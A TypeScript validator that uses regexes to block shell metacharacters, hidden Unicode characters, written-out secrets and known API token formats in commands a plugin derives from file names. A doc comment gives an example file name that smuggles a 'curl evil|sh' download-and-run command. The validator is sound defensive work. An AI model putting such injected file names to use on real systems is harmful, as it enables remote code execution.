/** What is between quotes, and where people put a name of their own. */
const APART = /'[^']*'|"[^"$`\\]*"|<[a-z]+>/g;
/** What a shell takes for more than words. `&&` only joins. */
const SHELL = /[;`$|<>\\\n\r]|(?<!&)&(?!&)|&&&/;
/** Characters that are not seen, or turn what is seen around. */
const UNSEEN = /[\p{Cc}\p{Cf}\p{Co}\p{Cn}\u2028\u2029]/u;
/** A flag or variable that holds a secret, with the secret written out. */
const SECRET_FLAG =
  /(?:^|[\s_-])(?:token|passwd|password|secret|api[-_]?key|access[-_]?key|private[-_]?key)(?:=|\s+)["']?(?![-<$"'{*]|\s|$)[^\s"']{6,}/i;
/** Well-known forms of tokens: GitLab, GitHub, AWS, Slack, OpenAI and its like, Google, npm, PyPI. */
const TOKEN =
  /\b(?:glpat-[\w-]{20}|gh[pousr]_\w{30}|github_pat_\w{30}|AKIA[0-9A-Z]{16}|xox[abprs]-[\w-]{10}|sk-[\w-]{20}|AIza[\w-]{30}|npm_\w{30}|pypi-[\w-]{30})/;

/**
 * Whether a command may be said at all. No command with characters that hide something, or with a secret written out.
 * One that a plugin made up from a file's or a task's name (`made`) must also be plain words: a file called
 * `x;curl evil|sh.sln` makes no command.
 */
export function isSayable(run: string, made: boolean): boolean {
  if (UNSEEN.test(run) || TOKEN.test(run) || SECRET_FLAG.test(run)) return false;
  return !made || !SHELL.test(run.replace(APART, 'x'));
}
